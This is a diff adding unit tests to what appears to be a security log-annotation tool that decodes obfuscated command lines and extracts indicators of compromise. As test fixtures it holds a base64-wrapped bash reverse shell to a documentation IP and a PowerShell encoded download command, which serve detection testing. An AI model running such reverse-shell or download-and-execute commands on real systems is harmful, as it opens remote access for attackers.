@@ -107,3 +107,59 @@ class TestAnnotateEvent:
         doc["message"] = "Accepted publickey for bob from 192.0.2.10 via jump.example.org"
         annotate_event(doc)
         assert doc["related"] == {"ip": ["10.9.9.9", "192.0.2.10"], "hosts": ["jump.example.org"]}
+
+
+class TestAnnotateDefaults:
+    """Which fields annotate_event analyses by default, and its memo of repeated texts."""
+
+    def _doc(self, command_line: str, parent: str = "") -> dict[str, object]:
+        return {
+            "event": {"module": "auditd"},
+            "message": "execve",
+            "process": {"command_line": command_line, "parent": {"command_line": parent}},
+        }
+
+    def test_parent_command_line_is_not_analysed(self) -> None:
+        """A child of a process with a base64 payload does not carry the parent's decoded layers."""
+        payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").decode()
+        doc = self._doc("base64 -d", parent=f"bash -c echo {payload} | base64 -d | bash")
+        annotate_event(doc)
+        assert "secstream" not in doc
+        assert "related" not in doc
+
+    def test_repeated_text_gives_equal_independent_annotations(self) -> None:
+        """The second event with the same command line gets the same fields, not shared objects."""
+        ext = IoCExtract()
+        command = "powershell -enc " + _enc("iwr http://203.0.113.9/a")
+        first, second = self._doc(command), self._doc(command)
+        annotate_event(first, extractor=ext)
+        first["secstream"]["decoded"][0]["text"] = "changed"  # type: ignore[index]
+        first["related"]["ip"].append("192.0.2.1")  # type: ignore[index]
+        annotate_event(second, extractor=ext)
+        assert second["secstream"]["decoded"][0]["text"] == "iwr http://203.0.113.9/a"  # type: ignore[index]
+        assert second["related"] == {"ip": ["203.0.113.9"]}
+        assert second["secstream"]["iocs"] == {"ipv4": ["203.0.113.9"], "url": ["http://203.0.113.9/a"]}  # type: ignore[index]
+
+    def test_memo_follows_the_extractor_configuration(self) -> None:
+        """A new custom type or a changed refang setting is honoured for a text seen before."""
+        ext = IoCExtract()
+        first, second, third = self._doc("ticket TCK-7 hxxp://evil[.]example/x"), self._doc(""), self._doc("")
+        annotate_event(first, extractor=ext)
+        assert first["secstream"]["iocs"] == {"url": ["http://evil.example/x"]}  # type: ignore[index]
+        ext.add_ioc_type("ticket", r"TCK-[0-9]+")
+        second["process"] = first["process"]
+        annotate_event(second, extractor=ext)
+        assert second["secstream"]["iocs"]["ticket"] == ["TCK-7"]  # type: ignore[index]
+        ext.refang = False
+        third["process"] = first["process"]
+        annotate_event(third, extractor=ext)
+        assert third["secstream"]["iocs"]["url"] == ["hxxp://evil[.]example/x"]  # type: ignore[index]
+
+    def test_non_default_settings_bypass_the_memo(self) -> None:
+        """Settings without base64 decoding give no layers even after a default-settings call on the same text."""
+        ext = IoCExtract()
+        command = "powershell -enc " + _enc("iwr http://203.0.113.9/a")
+        annotate_event(self._doc(command), extractor=ext)
+        doc = self._doc(command)
+        annotate_event(doc, extractor=ext, settings=ObservablesSettings(decode_base64=False))
+        assert "decoded" not in doc.get("secstream", {})  # type: ignore[operator]
